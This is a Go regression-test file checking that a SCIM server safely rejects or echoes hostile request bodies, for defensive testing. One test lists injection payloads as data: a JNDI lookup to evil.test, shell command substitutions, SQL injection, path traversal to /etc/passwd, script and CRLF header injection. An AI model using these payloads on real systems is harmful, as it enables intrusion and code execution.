package scim_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/quoin-dev/quoin/test/internal/scimtest"
)

// Regression tests for known vulnerabilities of SCIM servers: request bodies.

// scim-patch CVE-2026-48170: a key "__proto__.x" modified the prototype of all objects.
func TestScimPatchCVE2026_48170_KeysAreInTheSchema(t *testing.T) {
	for profile, key := range scimtest.ProfileKeys {
		a, run := acme.WithToken(acme.Token(key)), scimtest.RunID()
		id := a.CreateUser(t, "proto-"+run, `"name":{"givenName":"G"}`)
		before := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw)
		for _, name := range []string{"__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "class", "Document", "$where"} {
			for _, body := range []string{`"` + name + `":{"admin":true}`, `"name":{"` + name + `":{"admin":true}}`, `"emails":[{"value":"x","` + name + `":"y"}]`, `"` + scimtest.EnterpriseURN + `":{"` + name + `":"x"}`} {
				a.Call(t, "POST", "/Users", `{"userName":"proto2-`+run+`",`+body+`}`).WantError(400, "invalidSyntax", name)
				a.Call(t, "PUT", "/Users/"+id, `{"userName":"proto-`+run+`",`+body+`}`).WantError(400, "invalidSyntax", name)
				a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","value":{`+body+`}}`)).WantError(400, "invalidSyntax", name)
			}
			for _, path := range []string{name, name + ".x", "name." + name, `emails[` + name + ` eq \"x\"].value`, scimtest.EnterpriseURN + ":" + name} {
				got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":"`+path+`","value":true}`)).WantStatus(400)
				if scimType := got.Text("scimType"); scimType != "invalidPath" && scimType != "invalidFilter" {
					t.Errorf("%s: %s: %s", profile, path, got.Raw)
				}
			}
			for _, dotted := range []string{name + ".x", "name." + name + ".x", scimtest.EnterpriseURN + ":" + name} {
				if got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","value":{"`+dotted+`":true}}`)); got.Status != 400 && profile != "EntraID" {
					t.Errorf("%s: key %s: %d", profile, dotted, got.Status)
				}
			}
		}
		if after := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw); after != before {
			t.Errorf("%s: before %s\nafter %s", profile, before, after)
		}
	}
}

// Doyensec, "SCIM Hunting": ambiguous JSON.
func TestDoyensecAmbiguousJSON(t *testing.T) {
	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
	id := a.CreateUser(t, "json-"+run, `"active":true`)
	before := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw)
	own := `"userName":"json-` + run + `"`
	for name, body := range map[string]string{
		"a name twice":                    `{` + own + `,"title":"a","title":"b"}`,
		"in another case":                 `{` + own + `,"title":"a","TITLE":"b"}`,
		"by an escape":                    `{` + own + `,"title":"a","\u0074itle":"b"}`,
		"inside":                          `{` + own + `,"name":{"givenName":"a","GivenName":"b"}}`,
		"in an element":                   `{` + own + `,"emails":[{"value":"a","Value":"b"}]}`,
		"flat and under the core's URN":   `{` + own + `,"title":"a","` + scimtest.UserURN + `":{"title":"b"}}`,
		"an extension twice":              `{` + own + `,"` + scimtest.EnterpriseURN + `":{"department":"a"},"` + strings.ToUpper(scimtest.EnterpriseURN) + `":{"department":"b"}}`,
		"letters that fold to others":     `{` + own + `,"addresses":[{"streetAddress":"a","ſtreetAddress":"b"}]}`,
		"a URN with such a letter":        `{` + own + `,"` + scimtest.EnterpriseURN + `":{"department":"a"},"` + strings.Replace(scimtest.EnterpriseURN, "schemas", "ſchemas", 1) + `":{"department":"b"}}`,
		"an attribute with such a letter": `{` + own + `,"diſplayName":"b"}`,
		"two values":                      `{` + own + `} {` + own + `}`,
		"a byte order mark":               "\ufeff{" + own + `}`,
		"a comment":                       `{` + own + ` /* x */}`,
		"a trailing comma":                `{` + own + `,}`,
		"single quotes":                   `{'userName':'x'}`,
		"NaN":                             `{` + own + `,"` + scimtest.AttributesURN + `":{"score":NaN}}`,
		"cut off":                         `{` + own,
		"a list":                          `[{` + own + `}]`,
		"a string":                        `"x"`,
		"nothing":                         ``,
		"not UTF-8":                       `{` + own + ",\"title\":\"\xff\xfe\"}",
		"a surrogate that is not UTF-8":   `{` + own + ",\"title\":\"\xed\xa0\x80\"}",
		"a control character":             `{` + own + ",\"title\":\"a\x01b\"}",
		"33 deep":                         `{` + own + `,"title":` + strings.Repeat("[", 32) + strings.Repeat("]", 32) + `}`,
		"100000 deep":                     strings.Repeat("[", 100_000),
		"100000 deep, objects":            strings.Repeat(`{"a":`, 100_000),
	} {
		got := a.Call(t, "PUT", "/Users/"+id, body)
		got.Request = name + ": " + got.Request
		got.WantError(400, "invalidSyntax")
	}
	for name, operation := range map[string]string{
		"op twice": `{"op":"add","OP":"remove","path":"title","value":"x"}`, "path twice": `{"op":"add","path":"title","Path":"userName","value":"x"}`,
		"a member twice": `{"op":"add","value":{"title":"a","Title":"b"}}`, "an unknown member": `{"op":"add","path":"title","value":"x","from":"/y"}`,
	} {
		got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(operation))
		got.Request = name + ": " + got.Request
		got.WantError(400, "invalidSyntax")
	}
	if after := string(a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Raw); after != before {
		t.Errorf("before %s\nafter %s", before, after)
	}
	for _, media := range []string{"text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/scim+jsonx", "/"} {
		a.Call(t, "PUT", "/Users/"+id, `{`+own+`}`, "Content-Type", media).WantError(415, "", "Content-Type")
	}
	a.Call(t, "PUT", "/Users/"+id, "\x1f\x8b\x08\x00", "Content-Encoding", "gzip").WantError(400, "invalidSyntax")
}

// TestNumbersThatDoNotFit checks that numbers out of range are rejected quickly.
func TestNumbersThatDoNotFit(t *testing.T) {
	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
	id := a.CreateUser(t, "numbers-"+run)
	for value, attribute := range map[string]string{
		"9223372036854775808": "level", "-9223372036854775809": "level", "1.5": "level", "1e3": "level", "1E400": "score", "-1e999999999": "score", `"1"`: "level", "true": "level",
		strings.Repeat("9", 100_000): "level", "1" + strings.Repeat("0", 400): "score",
	} {
		a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":"`+scimtest.AttributesURN+`:`+attribute+`","value":`+value+`}`)).WantError(400, "invalidValue", attribute)
	}
	at := "[" + scimtest.AttributesURN + "]."
	got := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","value":{"`+scimtest.AttributesURN+`":{"level":9007199254740993,"score":0.1}}}`)).WantStatus(200).Want(at+"score", 0.1)
	if !strings.Contains(string(got.Raw), `"level":9007199254740993`) {
		t.Errorf("an integer has lost digits: %s", got.Raw)
	}
	for _, query := range []string{"count=99999999999999999999", "count=1e3", "startIndex=9223372036854775808", "startIndex=x"} {
		a.Call(t, "GET", "/Users?"+query, nil).WantError(400, "invalidValue", strings.Split(query, "=")[0])
	}
	a.Call(t, "GET", "/Users?startIndex=9223372036854775807&count=1000", nil).WantStatus(200).Want("Resources.0", nil)
	a.Call(t, "GET", scimtest.EncodeTarget(`/Users?filter=`+scimtest.AttributesURN+`:level eq 1e999999999`), nil).WantError(400, "invalidFilter")
	a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"count":1e999999999}`).WantError(400, "invalidValue", "count")
	a.Call(t, "POST", "/Bulk", `{"schemas":["`+scimtest.BulkURN+`"],"failOnErrors":1e99,"Operations":[{"method":"DELETE","path":"/Users/x"}]}`).WantError(400, "invalidValue", "failOnErrors")
}

// SAP scimono, GHSA-qjp7-gvrw-vxmf: a value was evaluated as an expression. Values are returned unchanged in
// attributes, filters and error details.
func TestSAPScimonoGHSAqjp7_ValuesAreNotTemplates(t *testing.T) {
	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
	for i, text := range []string{
		"%s%n%d%x%!v(PANIC=", "${7*7}", "${jndi:ldap://evil.test/x}", "{{7*7}}", "{{.}}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "<script>alert(1)</script>", "'; DROP TABLE users; --",
		`\..\..\etc`, "../../etc/passwd", "\u202e\u2028\u200b", "a\tb", "ümläut 漢字 🦊", `"quoted"`, "%00%0a", "a,b", "x\r\nSet-Cookie: a=b",
	} {
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		name, err := json.Marshal(text + run)
		if err != nil {
			t.Fatal(err)
		}
		created := a.Call(t, "POST", "/Users", fmt.Sprintf(`{"userName":"template-%d-%s","externalId":%s,"userType":%s}`, i, run, name, quoted)).WantStatus(201)
		id := created.Text("id")
		t.Cleanup(func() { a.Delete(t, "/Users/"+id) })
		for _, got := range []*scimtest.Response{created, a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200), a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":"timezone","value":`+string(quoted)+`}`)).WantStatus(200).Want("timezone", text)} {
			got.Want("externalId", text+run).Want("userType", text)
		}
		found := a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"filter":`+asText(`externalId eq `+string(name))+`}`).WantStatus(200).Want("totalResults", 1)
		found.Want("Resources.0.id", id)
		// Details quote values of the request.
		unknown := a.Call(t, "POST", "/Users", `{"userName":"x`+run+`",`+string(quoted)+`:1}`)
		unknown.WantError(400, "invalidSyntax")
		bad := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":`+string(quoted)+`,"path":"title"}`))
		bad.WantError(400, "invalidSyntax")
		path := a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"add","path":`+string(quoted)+`,"value":1}`))
		path.WantStatus(400)
		for _, got := range []*scimtest.Response{unknown, bad, path} {
			detail := got.Text("detail")
			if strings.Contains(detail, "49") && strings.Contains(text, "7*7") || strings.Contains(detail, "MISSING") || strings.Contains(detail, "%!s") || strings.ContainsAny(detail, "\r\n\x00") || got.Header.Get("Set-Cookie") != "" {
				t.Errorf("%s: the detail is %q", got.Request, detail)
			}
		}
		if !strings.Contains(unknown.Text("detail"), strings.Trim(asText(text), `"`)) && !strings.ContainsAny(text, "<\u202e\u2028ü\"\\") {
			t.Errorf("the detail does not quote %q: %s", text, unknown.Raw)
		}
	}
}

// asText returns a text as a JSON string.
func asText(s string) string {
	data, err := json.Marshal(s)
	if err != nil {
		return `""`
	}
	return string(data)
}

// TestNULDoesNotTruncate checks that a value with NUL is stored or rejected, but not truncated.
func TestNULDoesNotTruncate(t *testing.T) {
	a, run := acme.WithToken(acme.RFC), scimtest.RunID()
	whole := a.CreateUser(t, "nul-"+run)
	got := a.Call(t, "POST", "/Users", `{"userName":"nul-`+run+`\u0000evil"}`)
	switch got.Status {
	case 201:
		id := got.Want("userName", "nul-"+run+"\x00evil").Text("id")
		t.Cleanup(func() { a.Delete(t, "/Users/"+id) })
		if id == whole {
			t.Error("the text was cut")
		}
	default:
		got.WantError(400, "invalidValue")
	}
	a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"filter":"userName eq \"nul-`+run+`\\u0000\""}`).WantStatus(200).Want("totalResults", 0)
	a.Call(t, "GET", "/Users?filter=userName+eq+%22nul-"+run+"%00%22", nil).WantError(400, "invalidFilter")
	a.Call(t, "GET", "/Users/"+whole+"%00", nil).WantStatus(404)
	a.Call(t, "GET", "/Users?filter=userName+eq+%22%ff%fe%22", nil).WantError(400, "invalidFilter")
	a.Call(t, "GET", "/Users/%ff%fe", nil).WantStatus(404)
}

// TestPasswordsAreNotStored checks that a password, which Okta always sends, is accepted, and neither stored,
// returned nor usable in filters.
func TestPasswordsAreNotStored(t *testing.T) {
	const secret = "Pa55-w0rd-kept-nowhere"
	a, run := acme.WithToken(acme.Okta), scimtest.RunID()
	id := a.CreateUser(t, "password-"+run, `"password":"`+secret+`"`)
	version := a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200).Text("meta.version")
	a.Call(t, "PATCH", "/Users/"+id, scimtest.PatchBody(`{"op":"replace","value":{"password":"`+secret+`"}}`, `{"op":"replace","path":"password","value":"`+secret+`"}`)).WantStatus(200).Want("meta.version", version)
	for _, got := range []*scimtest.Response{
		a.Call(t, "PUT", "/Users/"+id, `{"userName":"password-`+run+`","password":"`+secret+`"}`).WantStatus(200), a.Call(t, "GET", "/Users/"+id, nil).WantStatus(200),
		a.Call(t, "GET", "/Users/"+id+"?attributes=password,userName", nil), a.Call(t, "GET", `/Users?filter=userName+eq+%22password-`+run+`%22`, nil).WantStatus(200),
		a.Call(t, "POST", "/Users", `{"userName":"password-`+run+`","password":"`+secret+`"}`), a.Call(t, "POST", "/Users", `{"userName":"p-`+run+`","password":["`+secret+`"],"nothing":1}`),
	} {
		if strings.Contains(string(got.Raw), secret) || strings.Contains(string(got.Raw), `"password":`) {
			t.Errorf("%s contains the password: %s", got.Request, got.Raw)
		}
	}
	for _, filter := range []string{`password eq "` + secret + `"`, `password pr`, `not (password sw "P")`, `userName eq "x" or password co "5"`, scimtest.UserURN + `:password ne "x"`, `PASSWORD eq "x"`} {
		a.Call(t, "GET", "/Users?filter="+url.QueryEscape(filter), nil).WantError(403, "sensitive", "password")
		a.Call(t, "POST", "/Users/.search", `{"schemas":["`+scimtest.SearchURN+`"],"filter":`+asText(filter)+`}`).WantError(403, "sensitive", "password")
		a.Call(t, "GET", "/?filter="+url.QueryEscape(filter), nil).WantError(403, "sensitive")
	}
	a.Call(t, "GET", "/Users?sortBy=password", nil).WantError(403, "sensitive", "password")
	if schemas := string(a.Call(t, "GET", "/Schemas", nil).WantStatus(200).Raw); strings.Contains(schemas, `"name":"password"`) {
		t.Error("the schemas name a password, which is not kept")
	}
	passwordIsNowhere(t, id, secret)
}
